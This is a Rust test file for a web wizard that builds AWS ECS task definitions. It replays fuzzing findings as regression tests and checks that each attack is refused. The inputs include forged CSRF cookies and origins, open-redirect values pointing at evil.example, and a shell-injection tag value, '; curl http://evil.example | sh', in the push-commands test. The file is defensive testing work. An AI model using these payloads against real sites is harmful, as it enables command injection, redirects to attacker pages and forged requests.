//! Attacks and faults found by fuzzing and by hand (issue 7), each replayed
//! against the router in-process.

use crate::common;

use axum::body::Body;
use axum::http::header;
use common::in_process::{Answer, InProcess, ORIGIN, preview_app, preview_app_with};
use ecs_wizard::store::Store;
use ecs_wizard::store::runs::StepStatus;

async fn new_draft(app: &mut InProcess) -> String {
    let created = app.post("/task-definitions/drafts", &[]).await;
    assert_eq!(created.status, 303);
    created.location.trim_end_matches("/configure").to_string()
}

fn is_app_page(answer: &Answer) {
    assert!(
        answer.content_type.starts_with("text/html"),
        "{} {}",
        answer.status,
        answer.content_type
    );
    assert!(
        answer.body.contains("<link rel=\"stylesheet\""),
        "styled: {}",
        answer.body
    );
    assert!(
        answer.body.contains("href=\"/\""),
        "a way back: {}",
        answer.body
    );
}

// Item 7: another page on this machine (another port shares the cookies)
// chooses both the cookie and the field; or it posts with its own Origin.
#[tokio::test]
async fn a_cookie_and_field_chosen_by_another_page_are_refused() {
    let mut app = preview_app().await;
    let attacker = app
        .request("POST", "/task-definitions/drafts")
        .header(
            header::COOKIE,
            "ecsw_browser=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA; ecsw_csrf=pwn",
        )
        .header(header::ORIGIN, ORIGIN)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from("csrf_token=pwn"))
        .unwrap();
    let answer = app.send(attacker).await;
    assert_eq!(answer.status, 403);
    is_app_page(&answer);
    assert!(answer.body.contains("expired"), "{}", answer.body);

    // The double-submit pair that used to pass: a token equal to the cookie.
    let browser = "BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB";
    let forged = Body::from(format!("csrf_token={browser}"));
    let answer = app
        .send(
            app.request("POST", "/task-definitions/drafts")
                .header(header::COOKIE, format!("ecsw_browser={browser}"))
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(forged)
                .unwrap(),
        )
        .await;
    assert_eq!(answer.status, 403);
}

#[tokio::test]
async fn a_post_from_another_origin_is_refused_even_with_a_valid_token() {
    let mut app = preview_app().await;
    let attacks: [&[(&str, &str)]; 5] = [
        &[("origin", "http://127.0.0.1:5799")],
        &[("origin", "http://localhost:8080")],
        &[("origin", "null")],
        &[("origin", ORIGIN), ("sec-fetch-site", "same-site")],
        &[("origin", ORIGIN), ("sec-fetch-site", "cross-site")],
    ];
    for headers in attacks {
        let mut request = app.form_request("/task-definitions/drafts", &[]);
        request.headers_mut().remove(header::ORIGIN);
        request.headers_mut().remove("sec-fetch-site");
        for (name, value) in headers {
            request.headers_mut().insert(*name, value.parse().unwrap());
        }
        let answer = app.send(request).await;
        assert_eq!(answer.status, 403, "{headers:?}");
        assert!(answer.body.contains("another site"), "{}", answer.body);
    }
    let mut no_origin = app.form_request("/task-definitions/drafts", &[]);
    no_origin.headers_mut().remove(header::ORIGIN);
    assert_eq!(app.send(no_origin).await.status, 403, "no Origin at all");
    // Only now, from this server's own page, does it go through.
    assert_eq!(app.post("/task-definitions/drafts", &[]).await.status, 303);
}

// Item 8: the language switch follows only local paths made of safe characters.
#[tokio::test]
async fn the_language_switch_never_leaves_the_site_and_never_fails() {
    let mut app = preview_app().await;
    for back in [
        "/\t/evil.example",
        "/\n/evil.example",
        "//evil.example",
        "/\\evil.example",
        "/\0",
        "/\n",
        "/\u{b}",
        "/\u{c}",
        "/\u{7f}",
        "https://evil.example/",
    ] {
        let answer = app.post("/lang", &[("lang", "ja"), ("back", back)]).await;
        assert_eq!(answer.status, 303, "{back:?}");
        assert_eq!(answer.location, "/", "{back:?}");
    }
    let answer = app
        .post(
            "/lang",
            &[
                ("lang", "ja"),
                ("back", "/repositories/push-commands?name=web"),
            ],
        )
        .await;
    assert_eq!(answer.location, "/repositories/push-commands?name=web");
}

// Item 11: the switch keeps the query (View push commands needs ?name=).
#[tokio::test]
async fn the_language_switch_comes_back_to_the_same_url() {
    let mut app = preview_app().await;
    let page = app.get("/repositories/push-commands?name=web&tag=v1").await;
    assert_eq!(page.status, 200);
    let back = page
        .html()
        .select(&scraper::Selector::parse("form.lang input[name=back]").unwrap())
        .next()
        .and_then(|e| e.value().attr("value").map(str::to_string));
    assert_eq!(
        back.as_deref(),
        Some("/repositories/push-commands?name=web&tag=v1")
    );
    let page = app.get("/roles/new?type=task").await;
    assert!(page.body.contains("value=\"/roles/new?type=task\""));
}

// Issue 11: the mistakes people make pasting JSON, in their words.
#[tokio::test]
async fn pasting_mistakes_are_explained_with_what_to_do() {
    let mut app = preview_app().await;
    for (pasted, said) in [
        ("   ", "The box is empty."),
        (
            "{\n  “family”: “web”\n}",
            "Line 2, column 3 has a typographic quote",
        ),
        (
            "{\"family\": \"web\",}",
            "there is a comma after the last item",
        ),
    ] {
        let refused = app
            .post("/task-definitions/import", &[("json", pasted)])
            .await;
        assert_eq!(refused.status, 422, "{pasted}");
        let message = refused.select(".msg.error").join(" ");
        assert!(message.contains(said), "{pasted}: {message}");
        // The position is said once.
        assert!(message.matches("line").count() <= 1, "{message}");
    }
}

// Item 11: an import error is a page the switch can come back to, with the
// pasted text and the message, now in the other language.
#[tokio::test]
async fn the_language_switch_keeps_a_refused_import_and_its_message() {
    let mut app = preview_app().await;
    let pasted = r#"{"family": "web",}"#;
    let refused = app
        .post("/task-definitions/import", &[("json", pasted)])
        .await;
    assert_eq!(refused.status, 422);
    let back = refused
        .html()
        .select(&scraper::Selector::parse("form.lang input[name=back]").unwrap())
        .next()
        .and_then(|e| e.value().attr("value").map(str::to_string))
        .expect("the switch's return path");
    assert!(back.starts_with("/task-definitions/new?import="), "{back}");

    let switched = app.post("/lang", &[("lang", "ja"), ("back", &back)]).await;
    assert_eq!(switched.location, back);
    let again = app.get(&back).await;
    assert_eq!(again.status, 200);
    assert_eq!(again.select("textarea#json"), [pasted]);
    let message = again.select(".msg.error").join(" ");
    assert!(
        message.contains("最後の要素の後にカンマがあります"),
        "{message}"
    );

    // An id that was never kept is the empty form, not an error.
    let unknown = app
        .get("/task-definitions/new?import=00000000000000000000000000000000")
        .await;
    assert_eq!(unknown.status, 200);
    assert_eq!(unknown.select("textarea#json"), [""]);
}

// Item 12: an htmx button whose form has another field that does not parse.
#[tokio::test]
async fn an_htmx_request_with_errors_gets_the_fragment_with_its_messages() {
    let mut app = preview_app().await;
    let draft = new_draft(&mut app).await;
    let mut request = app.form_request(
        &format!("{draft}/containers"),
        &[
            ("containerDefinitions.0.name", "web"),
            ("containerDefinitions.0.image", "nginx"),
            ("containerDefinitions.0.memory", "lots"),
            ("action", "add:containerDefinitions.0.environment"),
        ],
    );
    request
        .headers_mut()
        .insert("hx-request", "true".parse().unwrap());
    let answer = app.send(request).await;
    assert_eq!(answer.status, 422);
    assert!(
        !answer.body.contains("<html"),
        "a fragment, not a whole page"
    );
    assert!(
        answer.body.starts_with("<form id=\"step-form\"")
            || answer.body.contains("<form id=\"step-form\"")
    );
    assert!(
        answer.body.contains("Enter a whole number."),
        "{}",
        answer.body
    );
    assert!(
        answer
            .body
            .contains("containerDefinitions.0.environment.0.name"),
        "the row was added"
    );
    // htmx swaps 422: the page tells it to.
    let page = app.get(&format!("{draft}/containers")).await;
    assert!(page.body.contains(r#"{"code":"422","swap":true}"#));
}

// Item 13: every error status is the app's page in the user's language.
#[tokio::test]
async fn error_statuses_are_the_apps_pages_in_the_users_language() {
    let mut app = preview_app().await;
    let not_found = app.get("/nowhere").await;
    assert_eq!(not_found.status, 404);
    is_app_page(&not_found);

    let bad_query = app.get("/repositories/push-commands").await;
    assert_eq!(bad_query.status, 400);
    is_app_page(&bad_query);
    assert!(!bad_query.body.contains("Failed to deserialize"));

    let no_token = app
        .send(
            app.request("POST", "/task-definitions/drafts")
                .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(no_token.status, 403);
    is_app_page(&no_token);

    let big = "x".repeat(3 * 1024 * 1024);
    let too_large = app
        .post("/task-definitions/import", &[("json", &big)])
        .await;
    assert_eq!(too_large.status, 413);
    is_app_page(&too_large);

    let mut other_host = app.get_request("/");
    other_host
        .headers_mut()
        .insert(header::HOST, "evil.example".parse().unwrap());
    let misdirected = app.send(other_host).await;
    assert_eq!(misdirected.status, 421);
    is_app_page(&misdirected);

    let get_of_a_post = app.get("/task-definitions/import").await;
    assert_eq!(get_of_a_post.status, 405);
    is_app_page(&get_of_a_post);

    let mut japanese = app.get_request("/nowhere");
    japanese
        .headers_mut()
        .insert(header::ACCEPT_LANGUAGE, "ja".parse().unwrap());
    let answer = app.send(japanese).await;
    assert!(
        answer.body.contains("ここには何もありません"),
        "{}",
        answer.body
    );
    assert!(answer.body.contains("<html lang=\"ja\">"));
}

// Item 9: a value that would run a second command in a copied terminal line.
#[tokio::test]
async fn push_commands_refuse_what_is_not_a_name_or_a_tag() {
    let mut app = preview_app().await;
    let injected = app
        .get("/repositories/push-commands?name=web&tag=latest%3B%20curl%20http%3A%2F%2Fevil.example%20%7C%20sh%20%23")
        .await;
    assert_eq!(injected.status, 400);
    assert!(!injected.body.contains("curl"));
    for query in [
        "name=web%3Bid",
        "name=Web",
        "name=web&tag=.x",
        "name=web&tag=-x",
    ] {
        let answer = app
            .get(&format!("/repositories/push-commands?{query}"))
            .await;
        assert_eq!(answer.status, 400, "{query}");
    }
    let fine = app
        .get("/repositories/push-commands?name=team/web&tag=v1.2")
        .await;
    assert_eq!(fine.status, 200);
    assert!(fine.body.contains(
        "docker push ${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/team/web:v1.2"
    ));
}

fn chained_containers(n: usize) -> serde_json::Value {
    let containers: Vec<serde_json::Value> = (0..n)
        .map(|i| {
            serde_json::json!({"name": format!("c{i}"), "image": "x",
                "dependsOn": [{"containerName": format!("c{}", i + 1), "condition": "START"}]})
        })
        .collect();
    serde_json::json!({"family": "web", "containerDefinitions": containers})
}

// Item 1: the import that aborted the process is refused before it is saved.
#[tokio::test]
async fn an_import_over_aws_limits_is_refused_before_it_is_saved() {
    let mut app = preview_app().await;
    let json = chained_containers(12_000).to_string();
    let answer = app
        .post("/task-definitions/import", &[("json", &json)])
        .await;
    assert_eq!(answer.status, 422);
    assert!(
        answer
            .body
            .contains("containerDefinitions holds 12000 items; AWS allows at most 10"),
        "{}",
        &answer.body[..answer.body.len().min(3000)]
    );
    assert!(
        app.store.recent_drafts(10).await.unwrap().is_empty(),
        "nothing saved"
    );
    assert_eq!(app.get("/").await.status, 200);
}

// Item 1, for a draft an older version saved: it is refused, not walked.
#[tokio::test]
async fn a_draft_saved_over_the_limits_is_refused_not_walked() {
    let mut app = preview_app().await;
    let td = ecs_wizard::model::import::parse_task_definition(chained_containers(26_000)).unwrap();
    let id = app
        .store
        .create_draft(
            &ecs_wizard::store::Draft {
                task_definition: td,
                ..Default::default()
            },
            None,
        )
        .await
        .unwrap();
    for step in ["configure", "containers", "storage", "review"] {
        let answer = app
            .get(&format!("/task-definitions/drafts/{id}/{step}"))
            .await;
        assert_eq!(answer.status, 422, "{step}");
        assert!(answer.body.contains("larger than AWS allows"), "{step}");
    }
    assert_eq!(app.get("/").await.status, 200);
}

// Items 1 and 2: thousands of posted rows are refused by the limit, not saved.
#[tokio::test]
async fn thousands_of_posted_rows_are_refused_and_nothing_is_saved() {
    let mut app = preview_app().await;
    let draft = new_draft(&mut app).await;
    let names: Vec<(String, String)> = (0..15_000)
        .flat_map(|i| {
            [
                (
                    format!("containerDefinitions.0.environment.{i}.name"),
                    format!("V{i}"),
                ),
                (
                    format!("containerDefinitions.0.environment.{i}.value"),
                    "1".to_string(),
                ),
            ]
        })
        .collect();
    let mut fields: Vec<(&str, &str)> = vec![
        ("containerDefinitions.0.name", "web"),
        ("containerDefinitions.0.image", "nginx"),
        ("action", "save"),
    ];
    fields.extend(names.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    let started = std::time::Instant::now();
    let answer = app.post(&format!("{draft}/containers"), &fields).await;
    let took = started.elapsed();
    assert_eq!(answer.status, 422);
    assert!(
        answer.body.contains(
            "containerDefinitions.0.environment holds 15000 items; AWS allows at most 1000"
        ),
        "{}",
        &answer.body[..answer.body.len().min(2000)]
    );
    assert!(
        answer.body.len() < 200_000,
        "the page is not 15,000 rows long"
    );
    eprintln!("15,000 posted environment rows (30,000 fields) answered in {took:?}");
    let saved = app.get(&format!("{draft}/containers")).await;
    assert!(!saved.body.contains("V14999"), "nothing was saved");

    let tags: Vec<(String, String)> = (0..5_000)
        .map(|i| (format!("tags.{i}.key"), format!("k{i}")))
        .collect();
    let mut fields: Vec<(&str, &str)> = vec![("roleName", "web"), ("action", "save")];
    fields.extend(tags.iter().map(|(k, v)| (k.as_str(), v.as_str())));
    let answer = app.post("/roles/new", &fields).await;
    assert_eq!(answer.status, 422);
    assert!(
        answer
            .body
            .contains("tags holds 5000 items; AWS allows at most 50")
    );
}

fn form_action(answer: &Answer, css: &str) -> String {
    answer
        .html()
        .select(&scraper::Selector::parse(css).expect("selector"))
        .next()
        .and_then(|e| e.value().attr("action").map(str::to_string))
        .expect("a form action")
}

// Item 5: two tabs on one draft; the second save is refused, not lost.
#[tokio::test]
async fn a_save_from_an_older_tab_is_refused_with_its_values_kept() {
    let mut app = preview_app().await;
    let draft = new_draft(&mut app).await;
    let tab_a = app.get(&format!("{draft}/configure")).await;
    let tab_b = app.get(&format!("{draft}/configure")).await;
    let action_a = form_action(&tab_a, "#step-form");
    let action_b = form_action(&tab_b, "#step-form");
    assert!(action_a.ends_with("?v=1"), "{action_a}");
    let fields = |family: &'static str| {
        vec![
            ("family", family),
            ("launchType", "FARGATE"),
            ("networkMode", "awsvpc"),
            ("cpu", "256"),
            ("memory", "512"),
            ("action", "save"),
        ]
    };
    let saved_a = app.post(&action_a, &fields("from-tab-a")).await;
    assert_eq!(saved_a.status, 303);
    let refused_b = app.post(&action_b, &fields("from-tab-b")).await;
    assert_eq!(refused_b.status, 409);
    assert!(
        refused_b.body.contains("saved from another tab"),
        "{}",
        refused_b.body
    );
    assert!(
        refused_b.body.contains("value=\"from-tab-b\""),
        "B's values are kept"
    );
    // Item 5: it names what B would replace, not only that something changed.
    let summary = refused_b.select("#error-summary li");
    assert!(
        summary.contains(&"family: saved “from-tab-a”, yours “from-tab-b”.".to_string()),
        "{summary:?}"
    );
    let now = app.get(&format!("{draft}/configure")).await;
    assert!(
        now.body.contains("value=\"from-tab-a\""),
        "A's change is kept"
    );
    // B, having seen the message, may send again on purpose.
    let again = form_action(&refused_b, "#step-form");
    assert_eq!(app.post(&again, &fields("from-tab-b")).await.status, 303);
    // A tab that would change nothing another saved is not refused.
    assert_eq!(app.post(&action_a, &fields("from-tab-b")).await.status, 303);

    // The same for a one-page wizard's draft.
    let created = app
        .post(
            "/clusters/new",
            &[("clusterName", "one"), ("action", "save")],
        )
        .await;
    assert_eq!(created.status, 303);
    let page = app.get(&created.location).await;
    let action = form_action(&page, "main form[method=post]");
    assert_eq!(
        app.post(&action, &[("clusterName", "two"), ("action", "save")])
            .await
            .status,
        303
    );
    let stale = app
        .post(&action, &[("clusterName", "three"), ("action", "save")])
        .await;
    assert_eq!(stale.status, 409);
    assert!(stale.body.contains("value=\"three\""));
}

// Item 3: a slow query holds up only the pages that need the store.
#[tokio::test(flavor = "current_thread")]
async fn a_slow_store_does_not_hold_up_other_requests() {
    use tower::ServiceExt;
    let mut app = preview_app().await;
    let home = app.get("/").await;
    let css = home
        .html()
        .select(&scraper::Selector::parse("link[rel=stylesheet]").unwrap())
        .next()
        .and_then(|e| e.value().attr("href").map(str::to_string))
        .unwrap();
    app.store
        .hold_for_tests(std::time::Duration::from_millis(1500));
    let started = std::time::Instant::now();
    let home = tokio::spawn(app.router.clone().oneshot(app.get_request("/")));
    // Let the home page start and reach the store.
    tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    let asset = app
        .router
        .clone()
        .oneshot(app.get_request(&css))
        .await
        .unwrap();
    let asset_took = started.elapsed();
    assert_eq!(asset.status(), 200);
    let home = home.await.unwrap().unwrap();
    assert_eq!(home.status(), 200);
    let home_took = started.elapsed();
    assert!(
        asset_took < std::time::Duration::from_millis(1000)
            && home_took >= std::time::Duration::from_millis(1400),
        "the asset waited {asset_took:?}, the home page {home_took:?}"
    );
}

// Item 3: a draft can be deleted from the home page.
#[tokio::test]
async fn a_draft_is_deleted_from_the_home_page() {
    let mut app = preview_app().await;
    let draft = new_draft(&mut app).await;
    let home = app.get("/").await;
    let delete = form_action(&home, "ul.drafts form");
    assert_eq!(delete, format!("{draft}/delete"));
    let deleted = app.post(&delete, &[]).await;
    assert_eq!(deleted.status, 303);
    assert_eq!(app.get(&format!("{draft}/configure")).await.status, 404);
    assert!(app.get("/").await.body.contains("No drafts yet"));
    assert_eq!(app.post(&delete, &[]).await.status, 404);
}

// Item 6, in preview mode: a run cut off before a restart without credentials
// is shown, but Finish and Undo cannot be pressed, and say why.
#[tokio::test]
async fn an_interrupted_create_cannot_be_finished_without_credentials() {
    let data = tempfile::tempdir().unwrap();
    let store = Store::open(data.path()).unwrap();
    let mut app = preview_app_with(store).await;
    let saved = app
        .post(
            "/log-groups/new",
            &[("logGroupName", "/ecs/web"), ("action", "save")],
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    let draft_id = saved.location.rsplit('/').next().unwrap().to_string();
    let run = app.store.start_run("log-groups", &draft_id).await.unwrap();
    app.store
        .record_step(
            &run,
            0,
            "CreateLogGroup",
            "logs:CreateLogGroup logGroupName=/ecs/web (CreateLogGroup)",
            StepStatus::Started,
            "",
            None,
        )
        .await
        .unwrap();
    drop(app);
    // The restart: the run that never ended is now interrupted.
    let mut app = preview_app_with(Store::open(data.path()).unwrap()).await;
    let page = app.get(&format!("{}/result", saved.location)).await;
    assert_eq!(
        page.select("h1"),
        ["This create was interrupted"],
        "{}",
        page.body
    );
    let html = page.html();
    let buttons = scraper::Selector::parse(".nav-buttons button").unwrap();
    let disabled: Vec<bool> = html
        .select(&buttons)
        .map(|b| b.value().attr("disabled").is_some())
        .collect();
    assert_eq!(disabled, [true, true]);
    assert!(page.select("#run-blocked")[0].contains("no AWS credentials"));
}

// Issue 12: answers are compressed as the browser asks, and a static file
// mints no browser cookie.
#[tokio::test]
async fn answers_are_compressed_and_static_files_set_no_cookie() {
    use tower::ServiceExt;
    let mut app = preview_app().await;
    let home = app.get("/").await;
    let htmx = home
        .html()
        .select(&scraper::Selector::parse("script[src*=htmx]").unwrap())
        .next()
        .and_then(|e| e.value().attr("src").map(str::to_string))
        .expect("htmx's URL");
    for (encoding, most) in [("br", 20_000), ("gzip", 22_000)] {
        let request = axum::http::Request::builder()
            .uri(&htmx)
            .header(header::HOST, common::in_process::HOST)
            .header(header::ACCEPT_ENCODING, encoding)
            .body(Body::empty())
            .unwrap();
        let response = app.router.clone().oneshot(request).await.unwrap();
        assert_eq!(response.status(), 200);
        assert_eq!(
            response.headers().get(header::CONTENT_ENCODING).unwrap(),
            encoding
        );
        assert!(
            response.headers().get(header::SET_COOKIE).is_none(),
            "a static file sets no cookie"
        );
        let body = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        assert!(body.len() < most, "{encoding}: {} bytes", body.len());
    }
}

// Issue 20, finding 5: the audit CSV's stream was polled again after it
// ended when the answer was compressed, and panicked ("Unfold must not be
// polled after it returned Poll::Ready(None)"): browsers showed the
// download as cancelled. It is read whole here through the compression
// layer, in both encodings browsers ask for, and decoded.
#[tokio::test]
async fn the_audit_csv_downloads_whole_when_compressed() {
    use std::io::Read;

    use ecs_wizard::store::audit::NewEntry;
    use tower::ServiceExt;

    let app = preview_app().await;
    for n in 0..120 {
        let id = app
            .store
            .open_audit_entry(NewEntry {
                user: format!("user{n}"),
                role: "deployer".into(),
                address: "127.0.0.1".into(),
                method: "POST".into(),
                path: "/clusters/drafts/x/create".into(),
                page: String::new(),
            })
            .await
            .unwrap();
        app.store.end_audit_entry(id, 303, None).await.unwrap();
    }
    for encoding in ["gzip", "br", "identity"] {
        let request = app
            .request("GET", "/audit.csv")
            .header(header::ACCEPT_ENCODING, encoding)
            .body(Body::empty())
            .unwrap();
        let response = app.router.clone().oneshot(request).await.unwrap();
        assert_eq!(response.status(), 200, "{encoding}");
        let body = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap_or_else(|e| panic!("{encoding}: the download broke off: {e}"));
        let mut text = String::new();
        match encoding {
            "gzip" => flate2::read::GzDecoder::new(&body[..])
                .read_to_string(&mut text)
                .unwrap(),
            "br" => brotli::Decompressor::new(&body[..], 4096)
                .read_to_string(&mut text)
                .unwrap(),
            _ => {
                text = String::from_utf8(body.to_vec()).unwrap();
                0
            }
        };
        assert!(text.starts_with("entry,at,user,"), "{encoding}");
        assert_eq!(
            text.lines().count(),
            121,
            "{encoding}: the header and every entry"
        );
        assert!(text.contains("user0,"), "{encoding}: the oldest entry too");
    }
}
